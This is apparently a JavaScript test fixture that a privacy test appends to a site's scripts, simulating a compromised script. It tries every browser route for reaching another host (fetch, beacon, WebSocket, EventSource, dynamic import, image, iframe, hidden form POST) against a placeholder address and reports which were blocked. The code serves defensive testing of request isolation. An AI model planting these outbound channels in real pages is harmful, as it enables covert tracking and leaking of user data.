// What a script of the site might try if it had gone bad: every way to ask another host for
// something, in a page or in a worker. Appended to scripts of a copy of the site by test_private.py.

const elsewhere = ELSEWHERE;
const settled = (promise) => promise.then(() => "sent", () => "stopped");

const opened = (open) =>
  new Promise((resolve) => {
    try {
      const one = open();
      one.onload = one.onopen = () => resolve("sent");
      one.onerror = () => resolve("stopped");
    } catch {
      resolve("stopped");
    }
  });

function request() {
  const one = new XMLHttpRequest();
  one.open("POST", `${elsewhere}request`);
  one.send("an answer");
  return one;
}

const blind = { mode: "no-cors", method: "POST", body: "an answer" };
const anywhere = {
  fetch: () => settled(fetch(`${elsewhere}fetch?an-answer`)),
  blind: () => settled(fetch(`${elsewhere}blind`, blind)),
  request: () => opened(request),
  stream: () => opened(() => new EventSource(`${elsewhere}stream`)),
  socket: () => opened(() => new WebSocket(`${elsewhere.replace("http", "ws")}socket`)),
  module: () => settled(import(`${elsewhere}module.js`)),
};

// What these bring about is not told to the script; the proxy knows.
const onPage = {
  image: () => opened(() => Object.assign(new Image(), { src: `${elsewhere}image` })),
  beacon: () => void navigator.sendBeacon(`${elsewhere}beacon`, "an answer"),
  frame: () => void add("iframe", { src: `${elsewhere}frame` }),
  form: () => {
    // Into a frame: a new window would keep the page's own events waiting in Chromium.
    add("iframe", { name: "x" });
    add("form", { method: "post", action: `${elsewhere}form`, target: "x" }).submit();
  },
};

function add(name, values) {
  const one = Object.assign(document.createElement(name), values);
  document.body.append(one);
  return one;
}

async function tryAll(where, ways) {
  const said = {};
  for (const [way, go] of Object.entries(ways)) {
    const late = new Promise((resolve) => setTimeout(resolve, 3000, "late"));
    const tried = Promise.resolve().then(go).catch(() => "stopped");
    said[way] = (await Promise.race([tried, late])) ?? "tried";
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  // The own host is who may be told, and so who tells the test.
  const told = Object.entries(said).map((each) => each.join("="));
  await fetch(new URL(`told/${where}/${told.join("/")}`, import.meta.url));
}

if (globalThis.document) tryAll("page", { ...anywhere, ...onPage });
else tryAll("worker", anywhere);
